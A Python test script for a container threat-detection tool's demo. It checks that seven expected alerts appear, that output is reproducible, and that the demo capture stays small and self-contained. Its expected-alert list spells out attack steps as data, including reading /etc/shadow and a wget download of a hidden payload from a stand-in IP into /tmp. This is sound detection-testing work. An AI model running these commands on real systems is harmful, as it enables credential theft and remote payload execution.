#!/usr/bin/env python3
"""What `gyr demo` shows, to somebody without any privilege: the alerts of the story it tells and no others, each with
container, image or id, user and parent, and with what decided it; the same bytes each time. Its capture is small, and tells
of no machine but the one it was made up for.

The README shows the first of its alerts.

    check_demo.py GYR RULES README"""

import gzip
import json
import os
import re
import subprocess
import sys
import tempfile

ALERTS = [
    ("Interactive Shell in Container", "/bin/sh"),
    ("Credential Search in Container", "cat /etc/shadow"),
    ("Password Hashes Read", "file=/etc/shadow"),
    ("Download Tool in Interactive Container Session", "wget -q -O /tmp/.x http://203.0.113.7/x"),
    ("Execution from Temporary Directory in Container", "executable=/tmp/.x"),
    ("Execution from Hidden Path in Temporary Directory", "executable=/tmp/.x"),
    ("Dropped Program Executed in Container", "executable=/tmp/.x"),
]
PROGRAMS = {"sh", "cat", "wget", "chmod", ".x", "httpd", "dockerd", "containerd-shim", "runc", "runc:[1:CHILD]",
            "runc:[2:INIT]"}
MOST_BYTES = 50 * 1024


def run(*argv):
    drop = ["setpriv", "--bounding-set=-all", "--inh-caps=-all", "--no-new-privs"] if os.geteuid() == 0 else []
    return subprocess.run([*drop, *argv], stdout=subprocess.PIPE, check=True, text=True).stdout


def main(binary, rules, readme):
    failures = []

    def expect(good, what):
        if not good:
            failures.append(what)

    text = run(binary, "demo", "-r", rules)
    expect(text == run(binary, "demo", "-r", rules), "the same bytes each time")
    told = re.findall(r"^(\S.*)\n(\d\d:.*)\n  because\n((?:    .*\n)+)", text, re.M)
    expect([rule for rule, _, _ in told] == [rule for rule, _ in ALERTS], "the alerts: %r" % [t[0] for t in told])
    for (rule, line, reasons), (_, wanted) in zip(told, ALERTS):
        expect(wanted in line, "%s: %r in %r" % (rule, wanted, line))
        expect(re.search(r"container[ =]web\b", line), "%s: the container in %r" % (rule, line))
        expect(re.search(r"\bimage=shop/web\b|\bcontainer_id=[0-9a-f]{12}\b", line), "%s: the image in %r" % (rule, line))
        expect("user=root" in line, "%s: the user in %r" % (rule, line))
        expect(re.search(r"\bparent=(sh|containerd-shim|runc)\b", line), "%s: the parent in %r" % (rule, line))
        expect(reasons.count("\n") >= 2, "%s: what decided it: %r" % (rule, reasons))
    expect("%d alerts." % len(ALERTS) in text, "the last line: %r" % text.splitlines()[-1])

    with tempfile.TemporaryDirectory() as folder:
        capture = folder + "/demo.scap"
        run(binary, "demo", "--write", capture)
        size = os.path.getsize(capture)
        expect(size < MOST_BYTES, "the capture has %d bytes" % size)
        with open(readme, encoding="utf-8") as file:
            shown = re.search(r"^```json\n(.*?)^```", file.read(), re.M | re.S)
        first = run(binary, "replay", capture, "-r", rules, "--format", "json").splitlines()[0]
        expect(shown and json.loads(shown.group(1)) == json.loads(first), "the README's alert is the demo's first: %s" % first)
        with gzip.open(capture) as file:
            content = file.read()
        expect(b"shop-1" in content, "the capture's host is shop-1")
        for alien in (b"/home/", b"/work/", b"SUDO_", b"systemd", b"python3 "):
            expect(alien not in content, "the capture has %r" % alien)
        names = set()
        for line in run(binary, "events", "--capture", capture, "-p", "%proc.name %proc.aname").splitlines():
            names.update(re.split(r"[ (),]+", line.strip(" )")))
        expect(names - {"<NA>", ""} <= PROGRAMS, "programs in the capture: %r" % sorted(names - PROGRAMS))
    for failure in failures:
        print("FAIL: " + failure)
    print("%d failed" % len(failures))
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main(*(os.path.abspath(argument) for argument in sys.argv[1:])))
